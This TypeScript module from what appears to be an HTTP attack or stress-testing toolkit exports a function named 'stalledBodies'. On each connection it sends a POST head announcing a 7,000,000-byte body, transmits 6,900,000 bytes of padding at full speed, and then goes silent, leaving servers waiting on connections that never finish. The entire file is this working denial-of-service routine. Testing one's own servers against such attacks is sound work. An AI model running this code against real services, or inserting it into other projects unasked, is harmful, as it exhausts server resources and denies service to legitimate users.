import { type AttackOptions, head, onEachConnection, write } from "./attack.ts";

const announced = 7_000_000;
const sent = 6_900_000;

/** Sends nearly all of a large body at full speed, and then nothing more. */
export function stalledBodies(options: AttackOptions): Promise<void> {
  const { path = "/mutate" } = options;
  const chunk = Buffer.alloc(64 * 1024, " ");
  return onEachConnection(options, async (socket) => {
    await write(socket, head(`POST ${path}`, [`Content-Length: ${announced}`]));
    for (let count = 0; count < sent; count += chunk.length) if (!(await write(socket, chunk))) return;
  });
}
